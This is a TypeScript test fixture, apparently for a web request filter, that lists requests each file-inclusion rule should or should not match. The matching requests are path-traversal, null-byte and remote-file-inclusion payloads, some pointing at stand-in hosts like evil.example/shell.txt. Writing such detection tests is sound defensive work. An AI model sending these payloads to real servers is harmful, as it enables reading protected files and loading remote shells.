import { type Cases, get } from '../../testing.ts';

export const fileInclusionCases: Readonly<Record<string, Cases>> = {
  '100045C': {
    hits: [
      get('/static/..%2fadmin'),
      get('/a/..;/manager/html'),
      get('/icons/.%2e/%2e%2e/x'),
      get('/..%5cx'),
      get('/?f=....//....//x'),
    ],
    misses: [get('/a/../b'), get('/files/report%2F2024.pdf'), get('/?next=..%2fhome')],
  },
  '100046': {
    hits: [get('/%c0%ae%c0%ae/%c0%ae%c0%ae/etc'), get('/?p=%c0%afetc')],
    misses: [get('/caf%C3%A9'), get('/%E0%B8%81')],
  },
  '100050': {
    hits: [
      get('/index.php?include=http://evil.example/shell.txt'),
      get('/?mosConfig_absolute_path=http://evil.example/c.txt?'),
    ],
    misses: [get('/?redirect=http://partner.example/page.php'), get('/?include=comments')],
  },
  '100050B': {
    hits: [get('/?page=http://evil.example/cmd.txt?'), get('/?p=http://evil.example/x.php??&a=1')],
    misses: [get('/?url=http://news.example/story.php?id=1'), get('/?url=http://a.example/robots.txt')],
  },
  '100050C': {
    hits: [get('/?u=http://203.0.113.9/x.sh'), get('/?u=http://203.0.113.9:8080/a.php?b')],
    misses: [get('/?u=http://203.0.113.9/camera'), get('/?u=http://example.com/x.sh')],
  },
  '100051': {
    hits: [get('/?file=../config.php%00.jpg'), get('/index.php%00'), get('/?f=x%2500.png')],
    misses: [get('/?progress=100%2500km'), get('/?color=%2300ff00')],
  },
};
